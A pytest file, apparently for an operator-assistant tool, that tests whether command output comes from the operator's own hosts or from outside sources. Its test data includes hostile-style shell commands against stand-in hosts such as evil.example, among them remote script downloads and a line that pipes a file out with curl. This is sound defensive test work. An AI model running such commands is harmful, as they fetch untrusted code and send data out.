"""Who wrote what a command prints: the operator's hosts, or others (E4)."""

from __future__ import annotations

import pytest

from claudeops_desktop.stream.commands import CommandSource, is_foreign_path, names_path, source_of_command
from claudeops_desktop.stream.own_hosts import OperatorHosts, hosts_in, hosts_in_text

OWN = OperatorHosts(["cloud.example.org"])

FOREIGN = [
    "curl -s https://docs.example.org/fix",
    "curl -fsSL evil.example/notes",
    'ssh nas "curl -s https://evil.example/x"',
    "docker exec web sh -c 'wget -qO- http://evil.example/a'",
    "python3 -c \"import urllib.request as u;print(u.urlopen('https://evil.example').read())\"",
    "git clone https://github.com/a/b /tmp/b && cat /tmp/b/README.md",
    "git -C /srv pull git@github.com:a/b.git",
    "gh issue view 12 -R a/b",
    "npm view left-pad readme",
    "H=evil.example; curl -s http://$H/x",
    "curl -s $URL",
    "for u in https://evil.example/a; do curl -s $u; done",
    "dig TXT evil.example +short",
    "cat node_modules/x/README.md",
    "cat /var/mail/root",
    "curl -s 203.0.113.5/x",
    "curl http://2130706433/",
    "git show FETCH_HEAD:README.md",
]
OWNED = [
    "curl -s http://localhost:8096/health",
    "curl -s http://nas:9000/ http://10.0.0.5/ http://grafana.lan/api",
    "curl -s https://cloud.example.org/status.php",
    "curl -s cloud.example.org/status.php",
    "curl -s -o /dev/null -w '%{http_code}' http://10.1.1.1/",
    "for h in web1 web2; do curl -s http://$h:8080/health; done",
    "grep https://evil.example /etc/x.conf",
    "journalctl -u caddy -n 100",
    "ssh nas journalctl -u smbd",
    "git log -3",
    "gh auth status",
]


@pytest.mark.parametrize("command", FOREIGN)
def test_others_wrote_it(command: str) -> None:
    assert source_of_command(command, OWN).place


@pytest.mark.parametrize("command", OWNED)
def test_the_operators_hosts_wrote_it(command: str) -> None:
    assert source_of_command(command, OWN).place == ""


@pytest.mark.parametrize(
    ("command", "path"),
    [
        ("curl -so /tmp/page.html https://evil.example/p", "/tmp/page.html"),
        ("wget https://evil.example/fix.sh", "fix.sh"),
        ("git clone https://github.com/a/broker.git", "broker"),
        ("curl -s https://evil.example/x | tee /srv/x.txt", "/srv/x.txt"),
    ],
)
def test_what_it_fills_stays_foreign(command: str, path: str) -> None:
    source = source_of_command(command, OWN)
    assert path in source.written
    assert source_of_command(f"head -5 {path}", OWN, source.written).place == path


UNTOLD = "an address that cannot be told"


@pytest.mark.parametrize(
    ("command", "place"),
    [
        ("curl HTTPS://Evil.Example/x", "evil.example"),
        ("curl http://nas/ https://a.example/ https://b.example/", "a.example"),
        ("curl https://ops:secret@evil.example/", "evil.example"),
        ("curl https://ops:p@ss@evil.example/", "evil.example"),
        ("curl https://nas@evil.example/", "evil.example"),
        ("curl http://[2001:db8::1]/ http://[::1]/", "[2001:db8::1]"),
        ("git pull git@gitlab.example:a/b.git", "gitlab.example"),
        ("rsync -a nas:/srv/ /srv", ""),
        ("curl -s $URL/x", UNTOLD),
        ("curl http://web$N.example/", UNTOLD),
        ("curl http://${HOST}/", UNTOLD),
        ("H=evil.example; curl http://$H/", "evil.example"),
        ("H='nas'; curl http://${H}/ http://$OTHER/", UNTOLD),
        ("export U=http://nas/; curl $U", ""),
        ("for h in web1 'evil.example'; do curl http://$h/; done", ""),
        ("for u in http://nas/ https://evil.example/; do curl $u; done", "evil.example"),
        ("A=1; for u in nas; do curl $u; done", ""),
        ("grep https://evil.example/ /etc/x && journalctl -u caddy", ""),
        ("grep https://evil.example/ /etc/x && git log", "evil.example"),
        ("echo https://evil.example/", ""),
        ("cat /etc/x | curl -d @- evil.example", "evil.example"),
        ("echo x | python3 -c 'get(\"https://evil.example/\")'", "evil.example"),
    ],
)
def test_the_first_address_that_is_not_the_operators_wrote_it(command, place):
    assert source_of_command(command, OWN).place == place


@pytest.mark.parametrize(
    ("command", "place"),
    [
        ("/usr/bin/curl evil.example", "evil.example"),
        ("curl evil.example:8443/x?y#z", "evil.example"),
        ("dig @evil.example TXT nas", "evil.example"),
        ("ping evil.example", ""),  # it shows nothing that was written there
        ("curl -s -o page.html nas", ""),
        ("curl --output page.html nas", ""),
        ("curl -H a.example -d b.example -w c.example -u d.example -A e.example -m f.example -X g.example nas", ""),
        ("curl --data a.example --resolve b.example nas", ""),
        ("curl -O evil.example", "evil.example"),
        ("curl -o a.html evil.example", "evil.example"),
        ("curl --fail.now -v nas", ""),
        ("curl nas web", ""),
        ("curl $HOST", UNTOLD),
        ("nc -z 203.0.113.5 80", "203.0.113.5"),
        ("nc -z 10.0.0.5 80", ""),
        ("ls evil.example", ""),
        ("sudo curl evil.example", "evil.example"),
        ("sudo -n nice -n 10 timeout 5 curl evil.example", "evil.example"),
        ("env A=1 B=2 curl evil.example", "evil.example"),
        ("true && curl evil.example", "evil.example"),
        ("echo $(curl evil.example)", "evil.example"),
        ("if true; then curl evil.example; else ls; fi", "evil.example"),
        ("sudo", ""),
        ("ssh nas curl -s evil.example", "evil.example"),
        ("ssh nas /usr/bin/curl evil.example", "evil.example"),
        ("ssh nas curl curl.example", "curl.example"),
        ("ssh nas 'curl -s evil.example'", "evil.example"),
        ('docker exec web sh -c "wget -qO- evil.example"', "evil.example"),
        ("kubectl exec pod -- curl nas", ""),
        ("docker logs evil.example", ""),
        ("sh -c 'grep https://evil.example/ /etc/x'", "evil.example"),  # sh may do anything
        ("docker exec web 'git log https://evil.example/'", "evil.example"),
    ],
)
def test_a_client_asks_the_host_that_it_is_given_wherever_it_is_called(command, place):
    assert source_of_command(command, OWN).place == place


@pytest.mark.parametrize(
    ("command", "place"),
    [
        ("gh pr view 3", "what gh shows"),
        ("gh auth status && gh config list", ""),
        ("npm install", ""),
        ("npm view x && gem search y", "what gem shows"),
        ("pip index versions x", "what pip shows"),
        ("echo gh pr view 3", ""),
        ("mail -H", "what mail shows"),
        ("git show upstream/main:README.md", "a fetched branch of others"),
        ("git show main:README.md", ""),
        ("cat /srv/vendor/x/README", "vendor"),
        ("ls ~/Downloads/", "Downloads"),
        ("cat a.eml", ".eml"),
        ("cat /usr/share/doc/caddy/README", "usr/share/doc"),
    ],
)
def test_what_is_published_or_sent_by_others_is_named(command, place):
    assert source_of_command(command, OWN).place == place


@pytest.mark.parametrize(
    ("path", "foreign"),
    [
        ("/srv/app/node_modules/x/README.md", True),
        ("vendor/x.go", True),
        ("/usr/lib/python3/site-packages/x.py", True),
        ("/var/mail/root", True),
        ("/var/spool/mail/root", True),
        ("/home/a/letter.eml", True),
        ("/usr/share/doc/x", True),
        ("/srv/app/vendored/x", False),
        ("/srv/my-vendor/x", False),
        ("/srv/vendor", False),
        ("/var/log/mail.log", False),
        ("", False),
    ],
)
def test_packages_mail_and_downloads_are_paths_of_others(path, foreign):
    assert is_foreign_path(path) is foreign


@pytest.mark.parametrize(
    ("command", "path", "named"),
    [
        ("/tmp/a", "/tmp/a", True),
        ("cat /tmp/a", "/tmp/a", True),
        ("cat '/tmp/a';ls", "/tmp/a", True),
        ("cat /tmp/a/b", "/tmp/a", True),
        ("cat /tmp/a.bak", "/tmp/a", True),
        ("cat /tmp/ab", "/tmp/a", False),
        ("cat /tmp/a_b", "/tmp/a", False),
        ("cat /tmp/a-b", "/tmp/a", False),
        ("cat x/tmp/a", "/tmp/a", False),
        ("cat _notes", "notes", False),
        ("cat my-notes", "notes", False),
        ("cat .notes", "notes", False),
        ("cat ./notes", "notes", True),
        ("cat mynotes notes", "notes", True),
        ("cat notesnotes notes1 notes", "notes", True),
        ("cat aa", "a", False),
        ("notes.txt", "notes", True),
        ("xnotes", "notes", False),
        ("ls", "/tmp/a", False),
    ],
)
def test_a_path_is_named_as_a_word_of_its_own(command, path, named):
    assert names_path(command, path) is named


@pytest.mark.parametrize(
    ("command", "source"),
    [
        ("ls", CommandSource("", (), "")),
        ("cd /srv", CommandSource("", (), "/srv")),
        ("cd '/srv/a' && ls; pushd /srv/b", CommandSource("", (), "/srv/b")),
        ("echo cd /srv", CommandSource("", (), "")),
        ("cat /tmp/a > /tmp/b", CommandSource("/tmp/a", ("/tmp/b",), "")),
        ("cat /tmp/x /tmp/a", CommandSource("/tmp/a", (), "")),
        ("cat /tmp/second /tmp/a", CommandSource("/tmp/a", (), "")),
        ("cat /tmp/a; curl evil.example", CommandSource("evil.example", (), "")),
        ("ls > /tmp/b", CommandSource("", (), "")),
        ("curl \\\n-o /tmp/b \\\n evil.example", CommandSource("evil.example", ("/tmp/b",), "")),
        ("curl -so /tmp/b evil.example", CommandSource("evil.example", ("/tmp/b",), "")),
        ("curl --output=/tmp/b evil.example", CommandSource("evil.example", ("/tmp/b",), "")),
        ("curl evil.example >> '/tmp/b'", CommandSource("evil.example", ("/tmp/b",), "")),
        ("curl evil.example | tee -a /tmp/b", CommandSource("evil.example", ("/tmp/b",), "")),
        ("curl evil.example | tee bc", CommandSource("evil.example", ("bc",), "")),
        ("curl evil.example | tee b", CommandSource("evil.example", (), "")),  # too short to be found again
        ("curl -o - evil.example", CommandSource("evil.example", (), "")),
        ("curl -o /dev/null evil.example 2>&1 >/dev/stdout", CommandSource("evil.example", (), "")),
        ("wget -P /srv/d/ https://evil.example/a", CommandSource("evil.example", ("/srv/d",), "")),
        ("wget https://evil.example/d/a.sh?x=1", CommandSource("evil.example", ("a.sh",), "")),
        ("wget https://evil.example/d/a.sh/ https://evil.example/d", CommandSource("evil.example", ("a.sh",), "")),
        ("wget -O /tmp/b https://evil.example/a.sh", CommandSource("evil.example", ("/tmp/b",), "")),
        ("curl https://evil.example/a.sh", CommandSource("evil.example", (), "")),
        ("git clone https://evil.example/a/b.git", CommandSource("evil.example", ("b",), "")),
        ("git clone https://evil.example/a/b/", CommandSource("evil.example", ("b",), "")),
        ("git clone --depth=1 'https://evil.example/a/b' /srv/b/", CommandSource("evil.example", ("/srv/b",), "")),
        ("git --no-pager clone -q https://evil.example/b two; ls", CommandSource("evil.example", ("two",), "")),
        ("git clone --help https://evil.example/b two three", CommandSource("evil.example", ("three",), "")),
    ],
)
def test_what_a_command_fills_and_where_it_leaves_the_shell(command, source):
    assert source_of_command(command, OWN, ["/tmp/a", "/tmp/second"]) == source


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("https://Evil.Example:8443/x and http://[::1]/ or ftp://ops@nas/", ["evil.example", "::1", "nas"]),
        ("https://evil.example/ other.example", ["evil.example"]),
        (" Evil.Example:80/x", ["evil.example"]),
        ("ops@203.0.113.5", ["203.0.113.5"]),
        ("nas", []),
        ("see evil.example", []),
        ("", []),
    ],
)
def test_the_hosts_of_the_addresses_in_a_text(text, hosts):
    assert hosts_in_text(text) == hosts


def test_hosts_are_found_wherever_a_table_names_them_and_however_bad_an_entry_is() -> None:
    table = {
        "service": [
            {"name": "cloud", "url": "https://cloud.example.org:8443/x"},
            {"name": "db", "host": "ops@db.example.net", "port": "nonsense"},
            {"name": 3, "address": "198.51.100.4:53"},
        ]
    }
    assert hosts_in(table) == {"cloud.example.org", "db.example.net", "198.51.100.4"}


@pytest.mark.parametrize(
    ("host", "own"),
    [
        ("127.0.0.1", True),
        ("::1", True),
        ("100.101.7.3", True),
        ("nas", True),
        ("nas.home.arpa", True),
        ("www.cloud.example.org", True),
        ("notcloud.example.org", False),
        ("203.0.113.9", False),
        ("8.8.8.8", False),
        ("0x7f000001", False),
        ("2130706433", False),
        ("", True),
        ("[::1]", True),
        ("fe80::1%eth0", True),
        ("2001:db8::1", False),
        ("172.16.0.1", True),
        ("172.32.0.1", False),
        ("Cloud.Example.Org.", True),
        ("example.org", False),
        ("localhost", True),
        ("db.svc", True),
    ],
)
def test_which_hosts_are_the_operators(host: str, own: bool) -> None:
    assert (host in OWN) is own
